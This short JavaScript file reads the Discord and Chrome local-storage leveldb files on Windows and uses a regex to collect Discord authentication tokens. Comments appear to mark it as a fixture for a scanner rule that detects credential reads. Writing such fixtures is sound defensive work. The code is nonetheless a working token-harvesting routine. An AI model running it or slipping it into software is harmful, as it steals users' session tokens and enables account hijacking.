const fs = require("fs");
const path = require("path");
const roaming = process.env.APPDATA;
const local = process.env.LOCALAPPDATA;
const targets = { Discord: roaming + "\\discord", Chrome: local + "\\Google\\Chrome\\User Data\\Default" };
const found = [];
for (const [, base] of Object.entries(targets)) {
  const store = path.join(base, "Local Storage", "leveldb");
  if (!fs.existsSync(store)) continue;
  // pi-expect: SEC-CREDREAD-001
  for (const name of fs.readdirSync(store)) {
    // pi-expect: SEC-CREDREAD-001
    const text = fs.readFileSync(path.join(store, name), "latin1");
    found.push(...(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) ?? []));
  }
}
module.exports = found;
